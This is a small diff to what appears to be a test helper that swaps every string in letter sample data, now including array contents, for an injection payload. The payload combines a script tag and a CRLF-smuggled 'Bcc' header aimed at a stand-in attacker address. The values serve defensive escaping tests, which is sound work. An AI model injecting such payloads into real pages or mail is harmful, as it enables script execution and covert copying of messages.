@@ -12,6 +12,7 @@ const kinds = Object.keys(letterSamples) as LetterKind[];
 /** Replaces every string in the data. */
 function withHostileText(data: unknown): unknown {
   if (typeof data === "string") return `</p><script>alert("${data}")</script>&amp;\r\nBcc: thief@evil.example`;
+  if (Array.isArray(data)) return data.map(withHostileText);
   if (typeof data !== "object" || data === null) return data;
   return Object.fromEntries(Object.entries(data).map(([key, value]) => [key, withHostileText(value)]));
 }
